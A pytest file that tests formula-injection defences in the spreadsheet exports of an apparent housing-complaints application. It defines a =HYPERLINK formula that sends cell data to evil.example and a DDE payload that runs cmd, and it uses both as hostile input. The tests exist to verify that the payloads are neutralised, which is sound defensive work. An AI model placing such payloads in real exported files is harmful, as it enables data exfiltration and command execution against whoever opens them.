"""Formula injection (review finding 5): every CSV and XLSX cell through one neutralising
function, proved at its edges and end to end through the API a governing body downloads from."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from putright import spreadsheets
from putright.selfassessment import services as sa_services
from putright.selfassessment.importers import parse_form
from tests.selfassessment.factories import start

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


# --- the function -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=1", HYPERLINK, DDE, "=", "-"]
)
def test_text_a_spreadsheet_would_read_as_a_formula_is_quoted(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "Repairs", " =1", "a=b", "'=already quoted", "1-2", "\n=1", "£-5", "Ω=1"]
)
def test_other_text_is_unchanged(text):
    assert spreadsheets.neutralise(text) == text


@pytest.mark.parametrize(
    "value", [None, 0, -5, -1.5, 3.25, Decimal("-400.00"), True, dt.date(2025, 11, 3)]
)
def test_numbers_dates_and_empty_cells_pass_through(value):
    assert spreadsheets.neutralise(value) is value


def test_restore_undoes_only_our_own_quote():
    assert spreadsheets.restore(spreadsheets.neutralise(HYPERLINK)) == HYPERLINK
    assert spreadsheets.restore("'quoted by the author") == "'quoted by the author"


def test_csv_rows_are_neutralised_and_negative_numbers_stay_numbers():
    text = spreadsheets.csv_text([["name", "amount"], [HYPERLINK, -5], ["-1", Decimal("-2.50")]])

    rows = list(csv.reader(io.StringIO(text)))

    assert rows == [["name", "amount"], ["'" + HYPERLINK, "-5"], ["'-1", "-2.50"]]


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers():
    content = spreadsheets.xlsx_bytes([("t", [[HYPERLINK, -5, None, dt.date(2025, 4, 1)]])])

    sheet = load_workbook(io.BytesIO(content)).active
    cells = next(sheet.iter_rows())

    assert [c.data_type for c in cells[:2]] == ["s", "n"]
    assert cells[0].value == "'" + HYPERLINK
    assert cells[1].value == -5
    assert cells[2].value is None
    assert cells[3].value.date() == dt.date(2025, 4, 1)


# --- end to end -------------------------------------------------------------------------------


def _client(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def poisoned_complaint(hannah, rosa_details):
    """Any handler can log a complaint, so any handler can put text into the board's exports."""
    answer = _client(hannah).post(
        "/api/v1/complaints/",
        {
            "resident": {**rosa_details, "name": DDE},
            "received_on": "2025-11-03",
            "channel": "phone",
            "description": HYPERLINK,
            "category": "repairs",
            "service_area": HYPERLINK,
        },
        format="json",
    )
    assert answer.status_code == 201, answer.data
    return answer.data["reference"]


def _all_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_the_summary_workbook_has_no_formula_cell(poisoned_complaint, olivia):
    answer = _client(olivia).get("/api/v1/reports/summary/", {"year": 2025, "export": "xlsx"})

    assert answer.status_code == 200
    cells = _all_cells(answer.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + HYPERLINK in [c.value for c in cells]
    assert not any(isinstance(c.value, str) and c.value.startswith("=") for c in cells)


def test_the_summary_csv_quotes_the_formula(poisoned_complaint, olivia):
    answer = _client(olivia).get(
        "/api/v1/reports/summary/", {"year": 2025, "export": "csv", "table": "service_area"}
    )

    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(spreadsheets.FORMULA_STARTS) for cell in cells)


def test_the_tsm_workbook_has_no_formula_cell(poisoned_complaint, martin):
    answer = _client(martin).get(
        "/api/v1/reports/tsm/", {"year": 2025, "homes": 500, "export": "xlsx"}
    )

    assert answer.status_code == 200
    assert [c for c in _all_cells(answer.content) if c.data_type == "f"] == []


@pytest.fixture
def poisoned_self_assessment(olivia):
    assessment = start(olivia)
    sa_services.answer_update(
        user=olivia,
        answer=assessment.answers.get(ref="1.2"),
        comply="yes",
        evidence=HYPERLINK,
        commentary=DDE,
    )
    return assessment


def test_the_self_assessment_csv_quotes_evidence_and_commentary(poisoned_self_assessment, olivia):
    answer = _client(olivia).get(
        f"/api/v1/self-assessments/{poisoned_self_assessment.pk}/export.csv"
    )

    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    row = next(r for r in rows if r[0] == "1.2")
    assert row[3:5] == ["'" + HYPERLINK, "'" + DDE]
    assert not any(cell.startswith(spreadsheets.FORMULA_STARTS) for r in rows for cell in r)


def test_an_exported_self_assessment_imports_with_the_text_as_written(
    poisoned_self_assessment, tmp_path
):
    from putright.selfassessment import exporters

    path = tmp_path / "exported.csv"
    path.write_text(exporters.export_csv(poisoned_self_assessment), encoding="utf-8")

    row = next(r for r in parse_form(path).rows if r.ref == "1.2")
    assert (row.evidence, row.commentary) == (HYPERLINK, DDE)
